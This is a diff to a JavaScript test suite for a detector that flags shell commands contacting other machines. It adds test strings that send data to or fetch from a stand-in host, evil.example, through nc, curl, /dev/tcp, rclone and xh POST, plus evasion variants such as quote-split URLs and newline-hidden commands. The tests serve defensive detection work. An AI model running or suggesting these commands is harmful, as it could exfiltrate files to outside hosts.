@@ -21,6 +21,11 @@ describe('a command speaks to other machines', () => {
     'cat < /dev/tcp/10.0.0.1/80',
     'tool --to=https://evil.example/',
     'a\ncurl evil.example',
+    'a\n\tnc evil.example 99',
+    'x\nhttps://evil.example',
+    String.raw`echo "h""ttps://evil.example"`,
+    'rclone copy notes evil:notes',
+    'xh POST evil.example < f',
   ];
   for (const command of commands)
     test(command, () => {
@@ -36,7 +41,14 @@ describe('a command speaks to other machines', () => {
 });
 
 describe('a command does not', () => {
-  for (const command of ['ls -la', 'grep -rn "since" src\nnpm test', 'echo curling', 'find . -name nc.txt'])
+  for (const command of [
+    'ls -la',
+    'grep -rn "since" src\nnpm test',
+    'echo curling',
+    'find . -name nc.txt',
+    'x\ncat notes',
+    'x\n\tsync y',
+  ])
     test(command, () => {
       assert.ok(!speaks(command));
       assert.ok(!speaks(JSON.stringify({ command })));
